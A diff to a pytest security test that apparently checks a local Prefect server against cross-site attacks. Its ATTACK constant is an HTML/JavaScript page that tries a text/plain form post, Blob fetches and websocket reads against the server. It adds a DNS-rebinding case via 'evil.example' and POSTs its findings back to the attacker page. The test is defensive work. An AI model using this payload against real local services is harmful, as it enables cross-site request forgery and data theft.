@@ -7,8 +7,10 @@ import shutil
 import subprocess
 import threading
 from collections.abc import Iterator
+from dataclasses import dataclass
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
+from queue import Queue
 from urllib.parse import urlsplit
 
 import httpx
@@ -19,7 +21,7 @@ from flows.server import address_of
 CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
 # What a page may try: send without reading, send and read, read, a form, a socket, a frame.
 ATTACK = """\
-<!DOCTYPE html><pre></pre><iframe name="hidden" src="{server}/api/health"></iframe>
+<!DOCTYPE html><iframe name="hidden" src="{server}/api/health"></iframe>
 <form method="post" action="{server}/api/flows/" enctype="text/plain" target="hidden">
 <input name='{{"name": "owned-by-form", "x": "' value='"}}'></form><script>
 const owned = (name) => new Blob([JSON.stringify({{name}})])
@@ -40,7 +42,7 @@ onload = async () => {{
     logs: await socket("/api/logs/out"), events: await socket("/api/events/in")}}
   document.forms[0].submit()
   await new Promise((resolve) => setTimeout(resolve, 1000))
-  document.querySelector("pre").textContent = JSON.stringify(found)
+  await fetch("/found", {{method: "POST", body: JSON.stringify(found)}})
 }}</script>
 """
 
@@ -54,10 +56,16 @@ def server(prefect_home: Path) -> str:
     return address_of(prefect_home / "prefect").removesuffix("/api")
 
 
-@pytest.fixture
-def elsewhere(server: str) -> Iterator[str]:
-    """The address of a page on another port of this machine that attacks the server."""
+@dataclass
+class Elsewhere:
+    """A site on another port of this machine, with one page that attacks the server."""
 
+    address: str
+    found: Queue[dict[str, str]]  # what the page has got, by what it tried
+
+
+@pytest.fixture
+def elsewhere(server: str) -> Iterator[Elsewhere]:
     class Page(BaseHTTPRequestHandler):
         def do_GET(self) -> None:
             self.send_response(200)
@@ -65,23 +73,33 @@ def elsewhere(server: str) -> Iterator[str]:
             self.end_headers()
             self.wfile.write(ATTACK.format(server=server).encode())
 
+        def do_POST(self) -> None:
+            found.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
+            self.send_response(204)
+            self.end_headers()
+
         def log_message(self, *arguments: object) -> None:
             pass
 
+    found: Queue[dict[str, str]] = Queue()
     own = ThreadingHTTPServer(("127.0.0.1", 0), Page)
     threading.Thread(target=own.serve_forever, daemon=True).start()
-    yield f"http://127.0.0.1:{own.server_port}/"
+    yield Elsewhere(f"http://127.0.0.1:{own.server_port}/", found)
     own.shutdown()
     own.server_close()
+
+
+def chromium(folder: Path, *options: str) -> list[str]:
+    return [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
+            "--disable-background-networking", "--disable-component-update", "--disable-sync",
+            f"--user-data-dir={folder}", *options]
 
 
 def seen(folder: Path, address: str, *options: str) -> str:
     """The page's DOM when its scripts have come to rest."""
     done = subprocess.run(
-        [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
-         "--disable-background-networking", "--disable-component-update", "--disable-sync",
-         "--virtual-time-budget=15000", f"--user-data-dir={folder}", *options, "--dump-dom",
-         address], capture_output=True, text=True, timeout=120, check=True)
+        chromium(folder, "--virtual-time-budget=15000", *options, "--dump-dom", address),
+        capture_output=True, text=True, timeout=120, check=True)
     return done.stdout
 
 
@@ -91,15 +109,21 @@ def names(server: str) -> set[str]:
 
 
 @pytest.mark.parametrize("name", ["another port", "a rebound name"])
-def test_a_page_of_another_site_gets_nothing(name: str, server: str, elsewhere: str,
+def test_a_page_of_another_site_gets_nothing(name: str, server: str, elsewhere: Elsewhere,
                                              tmp_path: Path) -> None:
-    rules = "--host-resolver-rules=MAP evil.example 127.0.0.1"
+    rules, page = "--host-resolver-rules=MAP evil.example 127.0.0.1", elsewhere.address
     if name == "a rebound name":  # the page itself is then of the server's port, by the other name
-        port = urlsplit(server).port
-        assert "refused" in seen(tmp_path / "rebound", f"http://evil.example:{port}/", rules)
-        elsewhere = elsewhere.replace("127.0.0.1", "evil.example")
-    page = seen(tmp_path / "page", elsewhere, rules)
-    found = json.loads(page.partition("<pre>")[2].partition("</pre>")[0])
+        rebound = f"http://evil.example:{urlsplit(server).port}/"
+        assert "refused" in seen(tmp_path / "rebound", rebound, rules)
+        page = page.replace("127.0.0.1", "evil.example")
+    options = (rules, "--remote-debugging-port=0", page)  # so that it stays until it is killed
+    browser = subprocess.Popen(chromium(tmp_path / "page", *options),
+                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    try:
+        found = elsewhere.found.get(timeout=120)
+    finally:
+        browser.kill()
+        browser.wait()
     assert found == {"sent": "opaque", "read": "failed", "preflight": "failed", "get": "failed",
                      "logs": "failed", "events": "failed"}
     assert not {one for one in names(server) if one.startswith("owned")}
@@ -108,8 +132,8 @@ def test_a_page_of_another_site_gets_nothing(name: str, server: str, elsewhere: 
 def test_the_attack_works_where_nobody_refuses_it(server: str) -> None:
     """The very bytes, sent by a client of this machine, which may: so the page's failed for where
     it came from."""
-    answer = httpx.post(f"{server}/api/flows/", content=json.dumps({"name": "by a client"}),
-                        headers={"Content-Type": ""}, timeout=30)
+    answer = httpx.post(f"{server}/api/flows/", content=b'{"name": "by a client"}', timeout=30)
+    assert "content-type" not in answer.request.headers  # as a Blob is sent
     assert answer.status_code in (200, 201) and "by a client" in names(server)
 
 
